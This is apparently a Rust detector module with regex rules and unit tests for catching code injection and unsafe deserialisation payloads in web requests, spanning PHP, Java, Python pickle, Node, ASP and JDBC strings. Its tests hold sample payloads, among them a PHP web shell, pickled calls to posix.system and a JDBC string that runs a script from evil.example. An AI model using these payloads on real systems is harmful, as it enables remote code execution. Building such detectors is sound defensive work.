//! Code of the server's language (CWE-94) and serialised objects (CWE-502): PHP, Java, Python,
//! JavaScript, ASP.
//!
//! Source code is posted to forums and review tools: what counts is code that only makes sense
//! where it is run, and in documents only what no honest text holds.

use super::{
    BuildError, Family, Marks, Rule, Value,
    lexicon::Lexicon,
    rules::{Simple, always, short},
    sentence,
};
use crate::places::{NameHints, Part, Role};

/// Files too: a picture may hold code.
const WHERE: &[Role] = &[Role::Value, Role::Name, Role::FileName, Role::FileHead];

pub(super) const RULES: &[Rule] = &[
    short(
        "php-tag",
        r"<\?(?:php\b|=)|<\?\s*(?:system|eval|exec|passthru|phpinfo|echo)\b",
    ),
    short(
        "php-call",
        r#"(?:^|[;|&={(\s"'@])(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|call_user_func(?:_array)?|create_function|preg_replace|file_get_contents|file_put_contents|phpinfo|highlight_file|show_source|print_r|var_dump)(?:_once)?\s*\(\s*(?:['"$`@]|\)|base64_|chr\(|str_rot13|gzinflate)"#,
    ),
    short(
        "php-variable",
        r"\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|SESSION|ENV)\b|\$GLOBALS\b",
    ),
    always("php-object", r#"\b[oc]:\d+:"[\w\\]+":\d+:\{"#),
    always(
        "java",
        r#"java\.lang\.(?:Runtime|Process(?:Builder|Impl)?|Class(?:Loader)?|System|Thread)\b|\bjavax\.(?:script|naming|el|management)\.|ProcessBuilder\s*\(|getRuntime\(|org\.apache\.commons\.(?:collections|beanutils)|clonetransformer|instantiate(?:factory|transformer)|com\.sun\.(?:rowset|org\.apache)|class\.module\.classLoader|['"]\s*\.execute\(\s*\)|@org\.apache\.struts|@ognl\."#,
    ),
    // Java, pickle of Python (protocol 4), BinaryFormatter of .NET; what normalisation makes of
    // those and of Ruby's, whose bytes hold no text
    always(
        "serialised",
        r"^\s*(?:rO0AB|aced0005|KztAAU|Cs7QAF|gASV|AAEAAAD/////)|^\x01(?:java|net|pickle|frame|ruby):",
    ),
    // pickle of Python in text (protocol 0): a function by its module
    always(
        "pickle",
        r"(?:^|[\n(.])[ci](?:(?:posix|nt|os|subprocess|commands|pty|runpy|timeit|importlib)\n\w|(?:__builtin__|builtins)\n(?:eval|exec|compile|open|getattr|__import__|apply|input)\w*\n)[^\n]*\n\s*[(cpqgN.\x80-\xff]",
    ),
    always(
        "yaml-tag",
        r"!!(?:python/(?:object|name|module)|javax?\.|com\.sun\.)|!ruby/(?:object|hash)|tag:yaml\.org,2002:python/",
    ),
    short(
        "python",
        r#"__import__\s*\(\s*\\?['"]|\bos\.(?:system|popen)\s*\(|\bsubprocess\.(?:check_output|Popen|call|run)\s*\([^)]*shell|io\.popen\(|\b(?:eval|exec)\s*\(\s*compile\s*\("#,
    ),
    // ways from an expression to what runs programs or reads files, by any spelling of a member
    short(
        "node",
        r#"\bchild_process\b|\bprocess(?:\.|\?\.|\[\s*['"`])(?:mainModule|getBuiltinModule|binding|dlopen|_linkedBinding|reallyExit)|_\$\$ND_FUNC\$\$_|\b(?:require|import)\s*\(\s*['"`](?:node:)?(?:child_process|net|vm|worker_threads|repl|inspector)['"`]|\b(?:require|import)\s*\(\s*['"`](?:node:)?(?:fs|os|https?|dns)(?:/promises)?['"`]\s*\)\s*(?:\?\.)?[.\[]\s*['"`]?(?:read|write|append|unlink|rm|exists|open|create|copy|chmod|stat|access|hostname|userInfo|networkInterfaces|platform|homedir|release|get|request|lookup|resolve)"#,
    ),
    short(
        "node-reach",
        r#"\b(?:global|globalThis|root|window|self|this)\s*(?:\?\.)?\[\s*['"`](?:process|require|module|Function|eval)['"`]|\b(?:global|globalThis|root)\s*(?:\?\.|\.)\s*process\b|\bprocess\s*\[\s*['"`]|\bmodule(?:\.|\[\s*['"`])(?:constructor|children|require\s*\(|_load|_extensions|_compile)|\brequire(?:\.|\[\s*['"`])main(?:['"`]\s*\])?(?:\.|\[\s*['"`])(?:require|constructor)\b|\.constructor\s*\(\s*['"`]|(?:\.|\[\s*['"`])constructor(?:['"`]\s*\])?\s*(?:\?\.)?(?:\.|\[\s*['"`])(?:constructor|_load)\b|\bFunction\s*\(\s*['"`][^'"`\n]*(?:return|process|require|this)\b|\bReflect\.get\s*\(\s*(?:global|globalThis|this|process|root)\b|\b_load\s*\(\s*['"`]|\b(?:execSync|spawnSync|execFileSync)\s*\(|\bspawn_sync\b|\b(?:Deno\.(?:run|Command|readTextFile\w*|readFile\w*)|Bun\.(?:spawn\w*|file|write))\s*\(|^\s*process\.(?:exit|kill|abort|chdir|cwd|reallyExit|umask)\s*\(.*\)\s*;?\s*$|\{\s*return\s+(?:process|global|globalThis|module|require)\b|\b(?:global|globalThis|root)\.(?:require|module|Function|eval)\b|\bvm\.run(?:InThisContext|InNewContext|InContext)\s*\("#,
    ),
    // what a process was started with, alone in the place of an expression
    short(
        "node-environment",
        r"^\W*(?:JSON\.stringify\s*\(\s*|(?:return|await)\s+|(?:console\.log|Object\.(?:keys|values|entries))\s*\(\s*)?(?:globalThis\.|global\.)?process\.(?:env|argv|cwd\(\)|version|pid|config)\b(?:\.\w+|\[[^\]]*\])?[\W]*$",
    ),
    short("asp", r#"Response\.Write\(|Server\.ScriptTimeout|\bexecute\(\s*"""#),
    // types that parsers of JSON make objects of by their names, and connections that run what they
    // load
    always(
        "typed",
        r"^\s*(?:System\.(?:Windows\.(?:Data\.ObjectDataProvider|Application|ResourceDictionary)|Configuration\.Install\.AssemblyInstaller|Diagnostics\.Process|Data\.Services\.Internal|Management\.Automation|Web\.UI\.LosFormatter)\b|java\.net\.Inet\w*Address$|(?:org\.springframework\.context\.support\.)?(?:ClassPath|FileSystem)XmlApplicationContext$|ch\.qos\.logback\.core\.db\.|Gem::(?:Installer|Requirement|SpecFetcher|Specification|Package\w*)(?:::\w+)*$|jdbc:(?:h2:[^\s]*;\s*INIT\s*=|mysql:\S*[?&](?:autoDeserialize|allowLoadLocalInfile|queryInterceptors|statementInterceptors)=|postgresql:\S*socketFactory=))",
    ),
    // names that reach into a framework or its language: Spring, Drupal, PHP, ThinkPHP, jsonpickle
    always(
        "parameter",
        r"^class[.\[](?:module\b|classLoader|protectionDomain)|^(?:_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|SESSION|ENV)|GLOBALS)\[|\[#(?:post_render|pre_render|lazy_builder|access_callback|markup)\]|\\think\\(?:app|request|container)[/\\]|^think\\(?:app|request|container)[/\\]|^py/(?:reduce|type|function|repr)$",
    ),
    // loaders' variables, as CGI takes them from a query (CVE-2017-17562, CVE-2025-5777)
    always("loader", r"^LD_(?:DEBUG|PRELOAD|LIBRARY_PATH)$"),
];

/// The detector.
pub(super) fn detector(lexicon: &mut Lexicon) -> Result<Simple, BuildError> {
    Simple::new(
        Family::Code,
        Marks::ANGLE
            .and(Marks::ROUND)
            .and(Marks::DOLLAR)
            .and(Marks::DOT)
            .and(Marks::CURLY)
            .and(Marks::SQUARE)
            .and(Marks::COMMA)
            .and(Marks::UNDERSCORE)
            .and(Marks::COLON)
            .and(Marks::BREAK)
            .and(Marks::EQUALS)
            .and(Marks::SLASH)
            .and(Marks::OTHER),
        WHERE,
        RULES,
        lexicon,
    )
    .map(|rules| rules.unless(is_excused))
}

/// Whether a rule that matches says nothing here, by what is known of the value.
fn is_excused(rule: &Rule, value: &Value<'_>) -> bool {
    let is_talk = || {
        value.place.hints().any(NameHints::TEXT)
            && !value.text.contains(['$', '#', '%', '@', '{', '*'])
            && !value.text.contains("//")
            && {
                let reserved = if rule.name.starts_with("node") {
                    sentence::OF_JAVASCRIPT
                } else {
                    sentence::OF_SERVERS
                };
                sentence::is_sentence_and_no_script(value.text, reserved)
            }
    };
    match rule.name {
        // a report of a script that did not run begins with the script
        _ if value.is_sample() => true,
        "php-call" | "node" | "node-reach" | "python" if value.is_line_of_a_report() => true,
        // models and caches are uploaded as such; what calls something is found all the same
        "parameter" => value.role != Role::Name && !value.text.contains("think\\"),
        "serialised" => value.role == Role::FileHead && value.text.starts_with("\u{1}frame:"),
        // people search for it and ask about it, and it is what code says
        "node-environment" => {
            value.place.is_search()
                || value.place.part == Part::Body
                    && value
                        .place
                        .hints()
                        .any(NameHints::CODE.and(NameHints::TEXT).and(NameHints::REPORT))
        }
        "php-call" | "node" | "node-reach" | "python" => {
            let is_said = value.place.part == Part::Body && (value.context.is_report() || is_talk());
            let is_asked =
                value.place.is_search() || value.place.part == Part::Body && value.place.hints().any(NameHints::TEXT);
            is_said && !value.text.contains(['<', '$']) || is_asked && sentence::is_call_with_words(value.text)
        }
        "java" => value.place.part == Part::Body && value.role == Role::Value && (is_trace(value.text) || is_talk()),
        _ => false,
    }
}

/// Whether a text is the trace of a stack, which names classes of Java in frames and as exceptions;
/// what else a line of it says has nothing of an expression.
fn is_trace(text: &str) -> bool {
    let is_of_trace = |line: &str| is_frame(line) || is_exception(line);
    let mut lines = text.split(['\n', '\r']).map(str::trim).filter(|line| !line.is_empty());
    let has_trace = lines.clone().any(is_of_trace);
    has_trace && lines.all(|line| is_of_trace(line) || !line.contains(['(', '{', '$', '#', '%', '@', '\'', '"']))
}

/// `at java.lang.Thread.run(Thread.java:750)`, also with a module or with the archive in brackets.
fn is_frame(line: &str) -> bool {
    let is_of_names = |byte: u8| {
        byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'$' | b'_' | b'/' | b'<' | b'>' | b'@' | b'-')
    };
    let Some((method, place)) = line.strip_prefix("at ").and_then(|frame| frame.split_once('(')) else {
        return false;
    };
    let (place, jar) = place.split_once(')').unwrap_or((place, ""));
    let is_place = place == "Native Method"
        || place == "Unknown Source"
        || (place.contains(".java") || place.contains(".kt") || place.contains(".scala") || place.contains(".groovy"));
    method.bytes().all(is_of_names)
        && is_place
        && !place.contains(['"', '\'', '{', '('])
        && !jar.contains(['(', '{', '"'])
}

/// `Caused by: java.lang.IllegalStateException: x`
fn is_exception(line: &str) -> bool {
    let name = line.strip_prefix("Caused by: ").unwrap_or(line);
    let (name, message) = name.split_once(':').unwrap_or((name, ""));
    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'$' | b'_');
    (name.ends_with("Exception") || name.ends_with("Error"))
        && name.bytes().all(is_name)
        && !message.contains(['(', '{', '$', '#', '%'])
}

#[cfg(test)]
mod tests {
    use super::super::tests::{assert_finds, assert_passes, find_as};
    use crate::places::Role;

    #[test]
    fn attacks_are_found() {
        assert_finds(
            "code",
            &[
                r##"<?php system($_GET['c']); ?>"##,
                r##"eval(base64_decode('x'))"##,
                r##"O:8:"stdClass":1:{s:1:"a";i:1;}"##,
                r##"java.lang.Runtime"##,
                r##"__import__('os').system('id')"##,
                r##"require('child_process').exec('id')"##,
                r##"rO0ABXNyABFqYXZhLnV0aWwu+SGFzaE1hcA=="##,
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
                "aced0005737200116a6176612e7574696c2e486173684d6170",
                "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                "gAJjcG9zaXgKc3lzdGVtCnEBVQJpZHEChXEDUi4",
                "Y29zCnN5c3RlbQooUydpZCcKdFIu",
                "BAhvOhVHZW06OlNwZWNGZXRjaGVyAA",
                "process.getBuiltinModule('fs')",
                "module.require('fs')",
                "module.children",
                "System.Windows.Data.ObjectDataProvider, PresentationFramework",
                "java.net.Inet4Address",
                "org.springframework.context.support.ClassPathXmlApplicationContext",
                "Gem::Requirement",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:mysql://evil.example/a?autoDeserialize=true",
                "/Index/\\think\\app/invokefunction",
                "cos\nsystem\n(S'id'\ntR.",
                "(S'id'\nios\nsystem\n.",
                r##"class.module.classLoader.resources"##,
                r##"phpinfo()"##,
                r##"LD_PRELOAD"##,
            ],
        );
    }

    #[test]
    fn names_that_reach_into_a_framework_are_found() {
        for name in [
            "class.classLoader.URLs[0]",
            "class[classLoader][URLs]",
            "mail[#post_render][]",
            "GLOBALS[x]",
            "_SESSION[x]",
            "_COOKIE[GLOBALS][x]",
        ] {
            assert_eq!(find_as(Role::Name, name, name).unwrap().0, "code", "{name}");
        }
        for name in [
            "class",
            "class[name]",
            "mail[subject]",
            "session[x]",
            "cookie[a]",
            "globals",
            "tags[#news]",
        ] {
            assert_eq!(find_as(Role::Name, name, name), None, "{name}");
        }
    }

    #[test]
    fn objects_are_found_in_bytes_of_bodies_and_files() {
        use super::super::Detectors;
        use crate::{
            normal::Spelling,
            places::{Body, Field, Part, body},
        };
        let find = |role, value: &[u8]| {
            let field = Field::whole(Part::Body, role, value, Spelling::Literal);
            let caught = Detectors::standard().unwrap().look(&field);
            caught.map(|caught| (caught.family.name(), caught.finding.rule))
        };
        let found = Some(("code", "serialised"));
        let object = b"\xac\xed\0\x05sr\0\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`";
        let call =
            b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
        let model = b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x15sklearn.linear_model._base\x94\xff";
        for role in [Role::Value, Role::FileHead] {
            assert_eq!(find(role, object), found, "{role:?}");
            assert_eq!(find(role, call), found, "{role:?}");
        }
        assert_eq!(find(Role::Value, model), found);
        assert_eq!(find(Role::FileHead, model), None);
        let mut is_found = false;
        let body_of = Body::whole("application/octet-stream", object);
        let _gaps = body(1 << 16, &body_of, &mut |field| {
            is_found |= Detectors::standard().unwrap().look(field).is_some();
            true
        });
        assert!(is_found);
    }

    #[test]
    fn look_alikes_pass() {
        assert_passes(&[
            r##"the system (old) is down"##,
            r##"evaluate (all) options"##,
            r##"C++ and Java"##,
            r##"o: 5"##,
            r##"require('./lib')"##,
            r##"import os"##,
            r##"exec summary"##,
            r##"print(x)"##,
            r##"costs $5 (or less)"##,
            "d3b07384d113edec49eaa6238ad5ff00",
            "BAh7CEkiD3Nlc3Npb25faWQGOgZFVA==--2f1e",
            "gANjY29sbGVjdGlvbnMKT3JkZXJlZERpY3QK",
            "aced1234567890abcdef1234567890ab",
            "jdbc:mysql://db.example.org/shop?useSSL=true",
            "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1",
            "System.Diagnostics.Stopwatch",
            "System.String, mscorlib",
            "module children learn",
            "the process. get it",
            "Gem::Version compares versions",
            "_SERVER[x] is an array",
            "sin\ncos\ntan",
            "The modules are (\nos\nsys\n)",
        ]);
    }
}
